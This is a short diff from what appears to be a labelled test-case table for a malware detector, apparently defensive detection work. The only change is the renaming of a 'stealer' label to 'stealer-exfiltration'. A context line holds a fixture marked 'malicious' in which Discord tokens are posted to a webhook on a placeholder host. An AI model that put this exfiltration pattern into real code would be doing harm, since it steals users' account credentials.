@@ -190,7 +190,7 @@ CASES = [
                 requests.post("{LOOPBACK}/api/webhooks/1234567/demo", json={{"content": tokens}})
             """)}),
         "malicious",
-        frozenset({"stealer", "discord-token", "webhook-endpoint"}),
+        frozenset({"stealer-exfiltration", "discord-token", "webhook-endpoint"}),
     ),
     Case(
         "encoded-powershell",
